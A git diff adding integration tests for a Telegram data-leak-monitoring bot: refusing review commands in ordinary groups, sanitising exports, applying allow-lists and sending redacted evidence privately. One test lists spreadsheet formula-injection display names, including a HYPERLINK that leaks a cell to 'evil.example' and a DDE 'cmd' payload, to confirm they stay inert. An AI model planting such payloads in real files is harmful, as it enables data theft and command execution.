@@ -10,6 +10,7 @@ import csv
 import io
 import json
 from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -22,6 +23,7 @@ from bot.config import AppConfig, Keys
 from bot.review import audit as A
 from bot.review.commands import BOT_DATA_KEY
 from bot.review.sample import UNITS, seed
+from bot.review.service import Actor
 from bot.review.texts import TEXTS
 from bot.simulator import SimChat, SimMessage, Simulator, SimUser
 from bot.store import Store
@@ -93,8 +95,8 @@ class Rig:
         return str(self.store.get_incident(incident_id)["status"])  # type: ignore[index]
 
 
-@pytest.fixture
-async def rig(scanner: Scanner, tmp_path: Path) -> AsyncIterator[Rig]:
+@asynccontextmanager
+async def running_rig(scanner: Scanner, tmp_path: Path, media: Any = None) -> AsyncIterator[Rig]:
     async with Simulator() as sim:
         ethics_chat = sim.create_chat("政風室")
         group = sim.create_chat("審查科工作群")  # "審查" also starts the status line
@@ -121,12 +123,18 @@ async def rig(scanner: Scanner, tmp_path: Path) -> AsyncIterator[Rig]:
             Keys(content=KEY, hmac=b"h" * 32),
             scanner=scanner,
             store=store,
-            media=None,
+            media=media,
             check_rights_at_start=False,
         )
         async with sim.polling(app, timeout=0.5):
             yield Rig(sim, store, app, ethics_chat, group, unit_chat, staff, alice, bob)
         store.close()
+
+
+@pytest.fixture
+async def rig(scanner: Scanner, tmp_path: Path) -> AsyncIterator[Rig]:
+    async with running_rig(scanner, tmp_path) as r:
+        yield r
 
 
 async def test_confirm_button_updates_the_alert_in_place_and_is_audited(rig: Rig) -> None:
@@ -409,3 +417,385 @@ async def test_stored_allow_list_is_applied_when_the_bot_starts(
     assert running is not scanner and "0223456789" in running.config.allow_list
     assert not [f for f in running.scan("總機 0223456789").findings if f.type == "PHONE"]
     store.close()
+
+
+async def test_ethics_commands_posted_in_an_ordinary_work_group_are_refused_and_audited(
+    rig: Rig,
+) -> None:
+    """Ethics staff typing review commands into a unit's work group (by habit, or by mistake)
+    must not publish incident lists, details, exports, the audit log or all-chat counts there."""
+    seed(rig.store, month="2026-11", count=24)
+    incident_id, _ = await rig.leak()
+    uploads_before = len(rig.sim.uploaded_files(rig.group))
+    commands = (
+        "/incidents",
+        f"/incident {incident_id}",
+        "/export 2026-11",
+        "/audit",
+        "/stats 2026-11",
+        f"/reveal {incident_id} 查核",
+        f"/allow {incident_id} keyword 搜索",
+    )
+    for command in commands:
+        for user in (rig.staff, rig.alice):
+            reply = await rig.say(rig.group, user, command)
+            # One neutral answer for everyone: it tells nobody who is staff or what exists.
+            assert reply.text == ZH["refused_here"], (command, user.first_name)
+    await rig.sim.settle()
+    assert len(rig.sim.uploaded_files(rig.group)) == uploads_before  # no chart, no export
+    group_text = " ".join(m.text or m.caption or "" for m in rig.sim.sent_messages(rig.group))
+    for leak in ("事件列表", "稽核紀錄", "統計", "A1******89", "臺北市政府"):
+        assert leak not in group_text
+    denied = [e for e in rig.audit(A.DENIED) if e.get("chat_id") == rig.group.id]
+    assert [(e["command"], e["actor"]) for e in denied] == [
+        (c.split()[0].lstrip("/"), u.id) for c in commands for u in (rig.staff, rig.alice)
+    ]
+    assert all(e["where"] == "chat" for e in denied)
+    assert rig.audit(A.LIST) == [] and rig.audit(A.VIEW) == [] and rig.audit(A.EXPORT) == []
+    assert rig.audit(A.STATS) == [] and rig.audit(A.AUDIT_VIEW) == []
+
+    # The ethics chat and the staffer's private chat still work.
+    listed = await rig.say(rig.ethics_chat, rig.staff, "/incidents")
+    assert listed.text.startswith("事件列表（第 1/3 頁，共 25 件）")
+    private = await rig.dm(rig.staff, f"/incident {incident_id}")
+    assert private.text.startswith(f"事件 #{incident_id}")
+
+
+FORMULA_NAMES = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"點我")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+)
+
+
+async def test_export_keeps_formula_like_display_names_as_inert_text_in_xlsx_and_csv(
+    rig: Rig,
+) -> None:
+    """A Telegram display name or chat title is chosen by its owner: in the monthly export it
+    must stay text, never become a spreadsheet formula that runs when the office opens it."""
+    group = rig.sim.create_chat("=1+1 外勤組")
+    senders = [rig.sim.add_user(name, started_bot=True) for name in FORMULA_NAMES]
+    ids = []
+    for user in senders:
+        before = len(rig.sim.sent_messages(rig.ethics_chat))
+        rig.sim.inject_message(group, user, LEAK)
+        await rig.sim.wait_for(
+            lambda b=before: len(rig.sim.sent_messages(rig.ethics_chat)) > b, timeout=WAIT
+        )
+        alert = rig.sim.sent_messages(rig.ethics_chat)[before]
+        ids.append(int(alert.callback_data[0].rsplit(":", 1)[1]))
+    month = str(rig.store.get_incident(ids[0])["sent_at"])[:7]  # type: ignore[index]
+    staff_dm = rig.sim.private_chat(rig.staff)
+    before = len(rig.sim.uploaded_files(staff_dm))
+    rig.sim.inject_command(staff_dm, rig.staff, "/export", month)
+    await rig.sim.wait_for(
+        lambda: len(rig.sim.uploaded_files(staff_dm)) >= before + 2, timeout=WAIT
+    )
+    files = {f.file_name: f.data for f in rig.sim.uploaded_files(staff_dm)[before:]}
+
+    sheet = openpyxl.load_workbook(io.BytesIO(files[f"dlpbot-{month}.xlsx"])).active
+    header = [c.value for c in sheet[1]]
+    name_col, chat_col = header.index("傳送者") + 1, header.index("群組（單位）") + 1
+    cells = [sheet.cell(row=r, column=name_col) for r in range(2, sheet.max_row + 1)]
+    assert [c.value for c in cells] == [f"'{name}" for name in FORMULA_NAMES]
+    assert all(c.data_type == "s" for c in cells)  # a string cell, not a formula ("f")
+    assert sheet.cell(row=2, column=chat_col).value == "'=1+1 外勤組"
+    every = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in every if c.data_type == "f"]
+    assert isinstance(sheet.cell(row=2, column=1).value, int)  # ids stay numbers
+
+    rows = list(csv.DictReader(io.StringIO(files[f"dlpbot-{month}.csv"].decode("utf-8-sig"))))
+    assert [r["傳送者"] for r in rows] == [f"'{name}" for name in FORMULA_NAMES]
+    assert {r["群組（單位）"] for r in rows} == {"'=1+1 外勤組"}
+    for r in rows:
+        for value in r.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or value.lstrip("-").isdigit(), value
+
+
+PUBLIC_LINE = "王大明 A123456789 電話 0223456789"  # 02-2345-6789: the agency's switchboard
+
+
+async def _allow_list_reaches_document_scanning(scanner: Scanner, tmp_path: Path, executor: str):
+    from bot.media import MediaScanner
+    from bot.scan import skip_spacy_plugin_factories
+
+    skip_spacy_plugin_factories()
+    media = MediaScanner({"executor": executor, "timeout_s": 120}, scanner)
+    csv_doc = f"姓名,身分證,電話\n{PUBLIC_LINE.replace(' 電話 ', ',').replace(' ', ',')}\n"
+
+    async def send_document(rig: Rig) -> int:
+        before = len(rig.sim.sent_messages(rig.ethics_chat))
+        rig.sim.inject_document(
+            rig.group, rig.alice, csv_doc.encode(), file_name="名單.csv", mime_type="text/csv"
+        )
+        await rig.sim.wait_for(
+            lambda: len(rig.sim.sent_messages(rig.ethics_chat)) > before, timeout=120
+        )
+        alert = rig.sim.sent_messages(rig.ethics_chat)[before]
+        return int(alert.callback_data[0].rsplit(":", 1)[1])
+
+    try:
+        async with running_rig(scanner, tmp_path, media=media) as rig:
+            # The document scanner is running (its workers built their scanner) before the
+            # reviewer declares the switchboard number public.
+            first = await send_document(rig)
+            assert "PHONE" in {f["type"] for f in rig.store.findings(first)}
+            number = 1 + [f["type"] for f in _ordered(rig, first)].index("PHONE")
+            reply = await rig.dm(rig.staff, f"/allow {first} number {number}")
+            assert reply.text == ZH["allow_added"].format(kind=ZH["kind.public_number"])
+            second = await send_document(rig)
+            types = {f["type"] for f in rig.store.findings(second)}
+            assert "TW_NATIONAL_ID" in types and "PHONE" not in types
+    finally:
+        await media.aclose()
+
+
+async def test_allow_list_addition_reaches_document_scanning_in_threads(
+    scanner: Scanner, tmp_path: Path
+) -> None:
+    await _allow_list_reaches_document_scanning(scanner, tmp_path, "thread")
+
+
+def _media_can_replace_scanner() -> bool:
+    from bot.media import MediaScanner
+
+    return callable(getattr(MediaScanner, "set_scanner", None))
+
+
+@pytest.mark.timeout(240)
+@pytest.mark.xfail(
+    not _media_can_replace_scanner(),
+    reason="bot/media.py: MediaScanner.set_scanner() missing; its worker processes keep the"
+    " scanner (and allow-list) they were started with (gap 3, owned by the media engineer)",
+    strict=True,
+)
+async def test_allow_list_addition_reaches_document_scanning_in_worker_processes(
+    scanner: Scanner, tmp_path: Path
+) -> None:
+    await _allow_list_reaches_document_scanning(scanner, tmp_path, "process")
+
+
+MEDIA = Path(__file__).parent / "media"
+
+
+@pytest.mark.timeout(240)
+async def test_incident_sends_the_redacted_evidence_image_and_the_appeal_text_only_privately(
+    scanner: Scanner, tmp_path: Path
+) -> None:
+    """A photographed petition: /incident N in the ethics chat shows the masked detail there,
+    while the redacted evidence image and the sender's decrypted appeal reach the asking
+    reviewer's private chat alone (protect_content), each access audited."""
+    from bot.media import MediaScanner
+    from bot.scan import skip_spacy_plugin_factories
+
+    skip_spacy_plugin_factories()
+    media = MediaScanner({"executor": "thread", "timeout_s": 180}, scanner)
+    photo = (MEDIA / "photo_petition_01.jpg").read_bytes()
+    reason = "這張是公開的陳情書範本，上面的號碼是範例"
+    try:
+        async with running_rig(scanner, tmp_path, media=media) as rig:
+            before = len(rig.sim.sent_messages(rig.ethics_chat))
+            rig.sim.inject_photo(rig.group, rig.alice, photo)
+            await rig.sim.wait_for(
+                lambda: len(rig.sim.sent_messages(rig.ethics_chat)) > before, timeout=180
+            )
+            alert = rig.sim.sent_messages(rig.ethics_chat)[before]
+            incident_id = int(alert.callback_data[0].rsplit(":", 1)[1])
+            stored = rig.store.get_incident(incident_id) or {}
+            evidence = stored["evidence_png"]
+            assert evidence and evidence.startswith(b"\x89PNG") and evidence != photo
+            forwarded = len(rig.sim.sent_messages(rig.ethics_chat))
+            ack = await rig.dm(rig.alice, f"/appeal {incident_id} {reason}")
+            assert ack.text == ZH["appeal_recorded"]
+            await rig.sim.wait_for(
+                lambda: len(rig.sim.sent_messages(rig.ethics_chat)) > forwarded, timeout=WAIT
+            )
+
+            staff_dm = rig.sim.private_chat(rig.staff)
+            ethics_before = len(rig.sim.sent_messages(rig.ethics_chat))
+            dm_before = len(rig.sim.sent_messages(staff_dm))
+            detail = await rig.say(rig.ethics_chat, rig.staff, f"/incident {incident_id}")
+            assert detail.text.startswith(f"事件 #{incident_id}")
+            assert "申訴：有（申訴內容另以私訊傳送）" in detail.text
+            assert "證據影像：已遮蔽，另以私訊傳送" in detail.text
+            await rig.sim.wait_for(
+                lambda: len(rig.sim.sent_messages(staff_dm)) >= dm_before + 2, timeout=WAIT
+            )
+            await rig.sim.settle()
+            # Nothing but the masked detail went to the ethics chat.
+            assert len(rig.sim.sent_messages(rig.ethics_chat)) == ethics_before + 1
+            assert reason not in detail.text
+            [photo_call] = [
+                c for c in rig.sim.calls("sendPhoto") if c.params["chat_id"] == str(staff_dm.id)
+            ]
+            assert photo_call.files["photo"].data == evidence  # the redacted copy, as stored
+            assert str(photo_call.params["protect_content"]).lower() == "true"
+            appeal_msg = rig.sim.sent_messages(staff_dm)[-1]
+            assert appeal_msg.text == ZH["appeal_text"].format(id=incident_id, text=reason)
+            [appeal_call] = [
+                c
+                for c in rig.sim.calls("sendMessage")
+                if reason in str(c.params.get("text")) and c.params["chat_id"] == str(staff_dm.id)
+            ]
+            assert str(appeal_call.params["protect_content"]).lower() == "true"
+            [shown] = rig.audit(A.EVIDENCE)
+            assert shown["actor"] == rig.staff.id and shown["target"] == f"incident:{incident_id}"
+            assert shown["bytes"] == len(evidence)
+            [read] = rig.audit(A.APPEAL_VIEW)
+            assert read["actor"] == rig.staff.id and read["target"] == f"incident:{incident_id}"
+            raw_audit = rig.store.db.conn.execute(
+                "SELECT group_concat(detail) FROM audit_log"
+            ).fetchone()[0]
+            assert reason not in raw_audit  # the audit says who read it, not what it says
+
+            # Someone who is not staff gets neither, wherever they ask.
+            refused = await rig.dm(rig.alice, f"/incident {incident_id}")
+            assert refused.text == ZH["refused"]
+            assert len(rig.audit(A.EVIDENCE)) == 1 and len(rig.audit(A.APPEAL_VIEW)) == 1
+    finally:
+        await media.aclose()
+
+
+async def test_incident_in_the_ethics_chat_says_so_when_the_reviewer_cannot_be_dmed(
+    rig: Rig,
+) -> None:
+    incident_id, _ = await rig.leak()
+    forwarded = len(rig.sim.sent_messages(rig.ethics_chat))
+    await rig.dm(rig.alice, f"/appeal {incident_id} 這是範例資料")
+    await rig.sim.wait_for(
+        lambda: len(rig.sim.sent_messages(rig.ethics_chat)) > forwarded, timeout=WAIT
+    )
+    rig.sim.set_started(rig.staff, False)  # the reviewer never opened a chat with the bot
+    before = len(rig.sim.sent_messages(rig.ethics_chat))
+    await rig.say(rig.ethics_chat, rig.staff, f"/incident {incident_id}")
+    await rig.sim.wait_for(
+        lambda: len(rig.sim.sent_messages(rig.ethics_chat)) >= before + 2, timeout=WAIT
+    )
+    await rig.sim.settle()
+    detail, notice = rig.sim.sent_messages(rig.ethics_chat)[before:]
+    assert detail.text.startswith(f"事件 #{incident_id}")
+    assert notice.text == ZH["dm_failed"].format(id=incident_id)
+    assert "這是範例資料" not in detail.text + notice.text  # not posted to the chat instead
+
+
+def _count(rig: Rig, where: str, *args: Any) -> int:
+    """The oracle: how many incidents match, straight from the database."""
+    sql = f"SELECT count(*) FROM incidents WHERE {where}"
+    return int(rig.store.db.conn.execute(sql, args).fetchone()[0])
+
+
+def _listed_ids(text: str) -> list[int]:
+    return [int(line.split()[0][1:]) for line in text.splitlines() if line.startswith("#")]
+
+
+async def _all_pages(rig: Rig, command: str) -> list[int]:
+    """Follow the 「下一頁」 links the bot offers, exactly as a reviewer would."""
+    ids: list[int] = []
+    while True:
+        reply = await rig.dm(rig.staff, command)
+        ids += _listed_ids(reply.text)
+        nxt = [line for line in reply.text.splitlines() if line.startswith("下一頁：")]
+        if not nxt:
+            return ids
+        command = nxt[0].removeprefix("下一頁：")
+
+
+async def test_incidents_filters_combine_and_next_page_links_keep_the_filters(rig: Rig) -> None:
+    seed(rig.store, month="2026-11", count=40)
+    service = rig.app.bot_data[BOT_DATA_KEY].service
+    for incident_id in (3, 7, 11, 15, 19):
+        service.set_status(incident_id, "confirmed", Actor(rig.staff.id, "政風 陳科員"))
+
+    # Date range: only 2026-11-08 … 2026-11-16 (Taipei dates, both ends included).
+    ranged = await _all_pages(rig, "/incidents from=2026-11-08 to=2026-11-16")
+    expected = _count(rig, "substr(sent_at, 1, 10) BETWEEN '2026-11-08' AND '2026-11-16'")
+    assert 10 < expected < 40 and len(ranged) == len(set(ranged)) == expected
+    for incident_id in ranged:
+        day = str(rig.store.get_incident(incident_id)["sent_at"])[:10]  # type: ignore[index]
+        assert "2026-11-08" <= day <= "2026-11-16"
+
+    # Status: exactly the five confirmed ones.
+    confirmed = await rig.dm(rig.staff, "/incidents status=confirmed")
+    assert sorted(_listed_ids(confirmed.text)) == [3, 7, 11, 15, 19]
+    assert all("確認違規" in line for line in confirmed.text.splitlines()[1:])
+
+    # Category + sender + chat together, over several pages: the link keeps every filter.
+    unit = UNITS[0][0]
+    cmd = f"/incidents chat={unit} cat=personal_data"
+    ids = await _all_pages(rig, cmd)
+    where = "chat_id = ? AND EXISTS (SELECT 1 FROM json_each(categories) WHERE value = ?)"
+    assert len(ids) == len(set(ids)) == _count(rig, where, unit, "personal_data")
+    first = await rig.dm(rig.staff, "/incidents cat=personal_data")
+    total = _count(
+        rig, "EXISTS (SELECT 1 FROM json_each(categories) WHERE value = ?)", "personal_data"
+    )
+    assert (
+        f"共 {total} 件" in first.text
+        and "下一頁：/incidents cat=personal_data page=2" in first.text
+    )
+    by_sender = await _all_pages(rig, "/incidents sender=7001 cat=personal_data")
+    assert len(by_sender) == _count(
+        rig,
+        "sender_id = 7001 AND EXISTS (SELECT 1 FROM json_each(categories) WHERE value = ?)",
+        "personal_data",
+    )
+    assert {rig.store.get_incident(i)["sender_id"] for i in by_sender} == {7001}  # type: ignore[index]
+
+    # Paging: 40 incidents are 4 pages of 10, newest first; a page past the end shows the last.
+    pages = [await rig.dm(rig.staff, f"/incidents page={n}") for n in (1, 2, 3, 4)]
+    listed = [i for p in pages for i in _listed_ids(p.text)]
+    assert len(listed) == 40 == len(set(listed))
+    sent = [str(rig.store.get_incident(i)["sent_at"]) for i in listed]  # type: ignore[index]
+    assert sent == sorted(sent, reverse=True)
+    assert "下一頁" not in pages[3].text
+    beyond = await rig.dm(rig.staff, "/incidents page=9")
+    assert beyond.text.startswith("事件列表（第 4/4 頁，共 40 件）")
+
+    nothing = await rig.dm(rig.staff, "/incidents from=2026-10-01 to=2026-10-31")
+    assert nothing.text == ZH["list_empty"]
+    bad_date = await rig.dm(rig.staff, "/incidents from=2026-13-01")
+    assert bad_date.text == ZH["bad_filter"].format(arg="from=2026-13-01")
+    # Every listing was audited with its filter (ids and dates only).
+    assert {"date_from": "2026-11-08", "date_to": "2026-11-16"}.items() <= rig.audit(A.LIST)[
+        0
+    ].items()
+
+
+async def test_stats_for_a_chat_admin_counts_only_their_own_chat_in_private_and_in_the_group(
+    rig: Rig,
+) -> None:
+    seed(rig.store, month="2026-11", count=24)
+    own = _count(rig, "chat_id = ? AND substr(sent_at, 1, 7) = '2026-11'", rig.unit_chat.id)
+    assert 0 < own < 24
+
+    # Bob administers unit_chat by configuration: in private he gets that chat's counts only.
+    in_dm = await rig.dm(rig.bob, "/stats 2026-11")
+    assert (in_dm.caption or "").startswith(f"2026-11 統計：共 {own} 件")
+    in_group = await rig.say(rig.unit_chat, rig.bob, "/stats 2026-11")
+    assert (in_group.caption or "").startswith(f"2026-11 統計：共 {own} 件")
+    # …but not in a group he does not administer.
+    elsewhere = await rig.say(rig.group, rig.bob, "/stats 2026-11")
+    assert elsewhere.text == ZH["refused_here"]
+
+    # A Telegram administrator of a group (not in config) sees that group inside it only.
+    other_id, other_title = UNITS[2]
+    other = rig.sim.create_chat(other_title, chat_id=other_id + 100)  # a fresh id: no seed rows
+    carol = rig.sim.add_user("Carol", started_bot=True)
+    rig.sim.add_member(other, carol, "administrator")
+    own_group = await rig.say(other, carol, "/stats 2026-11")
+    assert (own_group.caption or "").startswith("2026-11 統計：共 0 件")
+    carol_dm = await rig.dm(carol, "/stats 2026-11")
+    assert carol_dm.text == ZH["refused"]  # no configured chats: nothing to show in private
+
+    # Ethics staff see every chat in private, but not inside a work group they do not run.
+    staff_all = await rig.dm(rig.staff, "/stats 2026-11")
+    assert (staff_all.caption or "").startswith("2026-11 統計：共 24 件")
+    staff_in_unit = await rig.say(rig.unit_chat, rig.staff, "/stats 2026-11")
+    assert staff_in_unit.text == ZH["refused_here"]
+
+    stats = [e["chats"] for e in rig.audit(A.STATS)]
+    assert stats == [[rig.unit_chat.id], [rig.unit_chat.id], [other.id], "all"]
+    denied = [(e["actor"], e["where"]) for e in rig.audit(A.DENIED) if e["command"] == "stats"]
+    assert denied == [(rig.bob.id, "chat"), (carol.id, "role"), (rig.staff.id, "chat")]
